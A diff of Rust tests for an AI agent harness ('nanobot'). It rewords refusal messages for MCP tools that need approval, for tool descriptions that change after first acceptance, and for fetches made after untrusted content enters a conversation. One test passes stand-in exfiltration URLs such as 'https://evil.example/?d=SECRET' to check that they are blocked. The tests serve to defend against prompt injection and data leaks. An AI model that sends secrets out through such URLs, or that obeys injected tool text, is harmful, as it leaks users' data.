@@ -177,7 +177,7 @@ fn what_does_not_claim_to_read_only_is_asked_about() {
     let story = story.script(call());
     say(&story)
         .stdout("done\n")
-        .stderr("nanobot: refused: mcp_one_set: `mcp_one_set` needs a person's consent, and nobody can be asked; `--allow mcp_one_set` would allow it\n");
+        .stderr("nanobot: refused: mcp_one_set: `mcp_one_set` requires approval, but this run cannot prompt; `--allow mcp_one_set` would allow it\n");
     assert_eq!(told(&story, "one"), ["start"]);
     let allowed = |flags: &[&str]| {
         story.server().script(call());
@@ -237,7 +237,7 @@ fn a_tool_that_is_not_what_it_was_is_refused() {
     let story = replanned(story, "one", &plan("Look!"));
     let call = || [calls("mcp_one_look", json!({})), says("done")];
     let story = story.script(call());
-    let told_of = "nanobot: refused: mcp_one_look: what MCP server `one` says of its tool `look` is not what it said at first; \
+    let told_of = "nanobot: refused: mcp_one_look: MCP server `one` changed the description of its tool `look`; \
                    `nanobot mcp accept one` shows the difference\n";
     say(&story).stdout("done\n").stderr(told_of);
     assert!(!told(&story, "one").contains(&"call look".to_owned()));
@@ -363,10 +363,7 @@ fn errors_are_told_and_images_shown() {
         body.contains(&format!("data:image/png;base64,{png}")),
         "{body}"
     );
-    assert!(
-        body.contains("[a sound, which is not passed on: audio/wav, 3 B]"),
-        "{body}"
-    );
+    assert!(body.contains("[audio not shown: audio/wav, 3 B]"), "{body}");
     let story = story.script([calls("mcp_one_values", json!({})), says("done")]);
     say(&story).stdout("done\n");
     assert!(story.asked()[5].last().contains("\"n\": 7"));
@@ -582,7 +579,7 @@ fn what_a_server_says_of_its_tools_is_a_strangers_word_until_it_is_accepted() {
     let story = story.script([calls("web_fetch", sent), says("done")]);
     say(&story)
         .stdout("done\n")
-        .stderr_has("refused: web_fetch: the conversation holds text of strangers (the tools of the MCP server `one`");
+        .stderr_has("refused: web_fetch: the conversation contains untrusted content (the tools of the MCP server `one`");
     // If none of the tools is offered, there is no notice.
     let none = ["agent", "-m", "do it", "--deny", "mcp_one_look"];
     let story = story.script(script());
@@ -628,7 +625,7 @@ fn a_tool_that_comes_later_is_asked_about_whatever_it_claims() {
     let story = story.script([calls("mcp_one_look", json!({})), says("done")]);
     say(&story).stdout("done\n");
     let call = || [calls("mcp_one_go2", json!({})), says("done")];
-    let refused = "nanobot: refused: mcp_one_go2: `mcp_one_go2` needs a person's consent, and nobody can be asked; \
+    let refused = "nanobot: refused: mcp_one_go2: `mcp_one_go2` requires approval, but this run cannot prompt; \
                    `--allow mcp_one_go2` would allow it\n";
     let notice = "nanobot: MCP server `one` has tools that it did not have: `go2`; each call of them is asked about until \
                   `nanobot mcp accept one`\n";
@@ -674,7 +671,7 @@ fn no_address_of_the_models_making_goes_out_by_a_server() {
         assert_eq!(told(&story, "one"), all, "{arguments}");
         std::fs::write(log(&story, "one"), "").unwrap();
     };
-    let stranger = "the conversation holds text of strangers (what `mcp_one_fetch` gave)";
+    let stranger = "the conversation contains untrusted content (the result of `mcp_one_fetch`)";
     for sent in [
         json!({ "url": "https://evil.example/?d=SECRET" }),
         json!({ "url": "evil.example/?d=SECRET" }),
@@ -711,7 +708,7 @@ fn no_address_of_the_models_making_goes_out_by_a_server() {
             "mcp_read_resource",
             read(uri),
             &[],
-            "only what `one` lists is read of it",
+            "only resources that `one` lists may be read",
             "",
         );
     }
